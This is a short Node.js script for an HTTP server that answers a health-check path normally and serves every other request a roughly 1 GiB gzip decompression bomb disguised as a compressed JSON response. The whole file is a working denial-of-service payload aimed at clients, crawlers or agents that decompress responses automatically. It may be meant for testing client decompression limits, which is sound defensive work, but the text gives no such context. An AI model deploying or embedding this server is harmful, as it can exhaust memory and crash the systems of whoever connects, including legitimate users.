'use strict';
const { createServer } = require('node:http');
const { gzipSync } = require('node:zlib');

const MEMBER = gzipSync(Buffer.alloc(32 * 2 ** 20, 32), { level: 9 });
const BOMB = Buffer.concat(Array.from({ length: 32 }, () => MEMBER));
createServer((req, res) => {
  req.resume();
  if (req.url === '/healthz') return res.end('{"status":"ok"}');
  res.writeHead(req.method === 'POST' ? 202 : 200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
  return res.end(BOMB);
}).listen(process.env.PORT ?? 3000);
